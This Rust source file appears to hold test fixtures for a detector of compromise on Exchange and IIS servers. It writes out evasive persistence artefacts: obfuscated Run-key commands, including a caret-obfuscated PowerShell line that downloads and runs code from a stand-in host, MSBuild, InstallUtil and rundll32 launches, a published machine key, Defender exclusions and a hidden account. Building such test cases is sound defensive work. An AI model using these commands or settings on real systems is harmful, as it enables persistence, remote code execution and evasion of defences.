//! Places and commands spelt otherwise, and settings in other places.

use host::writers::hive::key;
use host::writers::program::NewProgram;

use super::{APPLICATION_HOST, V15, Variant, iis, one, software, variant};

/// Places and commands spelt so that they are overlooked.
pub(super) fn spelt_otherwise() -> Vec<Variant> {
    let place = |folder: &str| {
        let own = format!("<virtualDirectory path=\"/auth/z\" physicalPath=\"{folder}\" />");
        let site = format!("<application path=\"/owa\">{own}</application>");
        one(APPLICATION_HOST, iis(&site, "", ""))
    };
    let run = |command: &str| {
        software("Microsoft\\Windows\\CurrentVersion", key("Run", vec![]).text("Sync", command))
    };
    let folders: &[&str] = &["iis.virtual_directory"];
    let commands: &[&str] = &["persistence.run_key"];
    vec![
        variant("a folder by its short name", place("C:\\PROGRA~3\\z"), folders, true),
        variant(
            "a folder by this server's own share",
            place("\\\\localhost\\c$\\ProgramData\\z"),
            folders,
            true,
        ),
        variant(
            "a folder by this server's own address",
            place("\\\\127.0.0.1\\c$\\Users\\Public\\z"),
            folders,
            true,
        ),
        variant("a folder by a variable", place("%ALLUSERSPROFILE%\\z"), folders, true),
        variant(
            "a folder by a way back",
            place("C:\\Program Files\\..\\ProgramData\\z"),
            folders,
            true,
        ),
        variant("a folder with slashes", place("C:/Users/Public/z"), folders, true),
        variant("a program by its short name", run("C:\\PROGRA~3\\u.exe"), commands, true),
        variant(
            "a program by a way back",
            run("C:\\Windows\\System32\\..\\Temp\\u.exe"),
            commands,
            true,
        ),
        variant("a program by a variable", run("%PUBLIC%\\u.exe /q"), commands, true),
        variant(
            "a text that a script host runs",
            run("wscript.exe //E:vbscript C:\\ProgramData\\u.txt"),
            commands,
            true,
        ),
        variant(
            "a project that MSBuild runs",
            run(
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\ProgramData\\u.xml",
            ),
            commands,
            true,
        ),
        variant(
            "a library that InstallUtil runs",
            run("InstallUtil.exe /logfile= /U C:\\Users\\Public\\u.dll"),
            commands,
            true,
        ),
        variant(
            "script given to rundll32",
            run("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";inert"),
            commands,
            true,
        ),
        variant(
            "a command with carets",
            run("cmd.exe /c p^o^w^e^rshell -w h -c ie^x (iwr http://update.invalid/a)"),
            commands,
            true,
        ),
        variant(
            "a script behind a share",
            run("powershell.exe -ep bypass -File C:\\Users\\Public\\u.ps1"),
            commands,
            true,
        ),
        variant("a long prefix", run("\\\\?\\C:\\Users\\Public\\u.exe"), commands, true),
    ]
}

pub(super) fn of_settings() -> Vec<Variant> {
    let web_config = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Config/web.config";
    let key_of = |digits: &str| {
        format!(
            "<machineKey validationKey=\"{digits}\" decryptionKey=\"{digits}\" validation=\"SHA1\" />"
        )
    };
    let digits = "0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF";
    let agents = |class: &str, path: &str| {
        format!(
            "<configuration><mexRuntime><agentList><agent name=\"Filter\" \
             baseType=\"Microsoft.Exchange.Data.Transport.Smtp.SmtpReceiveAgent\" \
             classFactory=\"{class}\" assemblyPath=\"{path}\" enabled=\"true\" /></agentList>\
             </mexRuntime></configuration>"
        )
    };
    let exclusion = |kind: &str, name: &str| {
        software("Microsoft\\Windows Defender\\Exclusions", key(kind, vec![]).number(name, 0))
    };
    vec![
        variant(
            "a machine key for OWA in the server's own configuration",
            one(
                APPLICATION_HOST,
                iis(
                    "",
                    "",
                    &format!(
                        "<location path=\"Default Web Site/owa\"><system.web>{}</system.web></location>",
                        key_of(digits)
                    ),
                ),
            ),
            &["iis.machine_key"],
            true,
        ),
        variant(
            "a published key for every application of the server",
            one(
                web_config,
                format!(
                    "<configuration><system.web>{}</system.web></configuration>",
                    key_of("CB2721ABDAF8E9DC516D621D8B8BF13A2C9E8689A25303BF")
                ),
            ),
            &["iis.machine_key"],
            true,
        ),
        variant(
            "an agent among Exchange's programs that nobody signed",
            vec![
                (
                    format!("{V15}/TransportRoles/Shared/agents.config"),
                    agents(
                        "Filter.Factory",
                        "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\Filter.dll",
                    )
                    .into_bytes(),
                ),
                (
                    format!("{V15}/Bin/Filter.dll"),
                    NewProgram { is_managed: true, ..NewProgram::default() }.bytes(),
                ),
            ],
            &["transport.agent"],
            true,
        ),
        variant(
            "an agent of the front end",
            one(
                &format!("{V15}/TransportRoles/Shared/fetagents.config"),
                agents("Filter.Factory", "C:\\Users\\Public\\Filter.dll"),
            ),
            &["transport.agent"],
            true,
        ),
        variant(
            "pages left out by the scanner",
            exclusion("Extensions", "aspx"),
            &["defender.exclusion"],
            false,
        ),
        variant(
            "the whole drive left out by the scanner",
            exclusion("Paths", "C:\\"),
            &["defender.exclusion"],
            false,
        ),
        variant(
            "an account kept off the sign-in screen",
            software(
                "Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts",
                key("UserList", vec![]).number("helper", 0),
            ),
            &["account.hidden"],
            true,
        ),
    ]
}
